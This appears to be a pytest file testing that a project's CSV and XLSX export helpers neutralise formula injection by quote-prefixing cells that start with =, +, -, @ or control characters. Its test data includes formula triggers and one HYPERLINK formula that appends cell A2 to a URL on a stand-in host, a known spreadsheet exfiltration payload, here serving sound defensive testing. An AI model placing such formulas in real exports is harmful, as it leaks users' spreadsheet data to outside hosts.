"""core.spreadsheets: text that a spreadsheet could take for a formula is written as text (OWASP)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import csv_text, xlsx_text

TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_csv_text_puts_a_quote_before_what_starts_like_a_formula(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Zorg Noord", "", " =1", "a=b", 12, Decimal("-3.5"), None])
def test_csv_text_leaves_everything_else_alone(value):
    assert csv_text(value) == value


def test_a_csv_row_written_through_csv_text_holds_no_formula():
    # given
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    # when
    writer.writerow([csv_text(v) for v in ['=HYPERLINK("http://x/?"&A2,"Bekijk")', -5, "Noord"]])
    # then
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        '\'=HYPERLINK("http://x/?"&A2,"Bekijk")',
        "-5",
        "Noord",
    ]


def write_and_read(values):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([xlsx_text(ws, v) for v in values])
    out = io.BytesIO()
    wb.save(out)
    return list(load_workbook(io.BytesIO(out.getvalue()))["s"].iter_rows())[0]


@pytest.mark.parametrize("text", TRIGGERS[:-1])
def test_xlsx_text_is_a_quote_prefixed_string_cell(text):
    # when
    (cell,) = write_and_read([text])
    # then
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_xlsx_keeps_numbers_dates_and_plain_text_as_they_are():
    # when
    number, date, plain, minus = write_and_read([-5, datetime.date(2026, 1, 2), "Noord", Decimal("-1.5")])
    # then
    assert (number.value, number.data_type) == (-5, "n")
    assert date.is_date
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Noord", "s", False)
    assert (minus.value, minus.data_type) == (-1.5, "n")


def test_xlsx_replaces_characters_xml_cannot_hold():
    (cell,) = write_and_read(["a\x00b\x1fc"])
    assert (cell.value, cell.data_type) == ("a\ufffdb\ufffdc", "s")
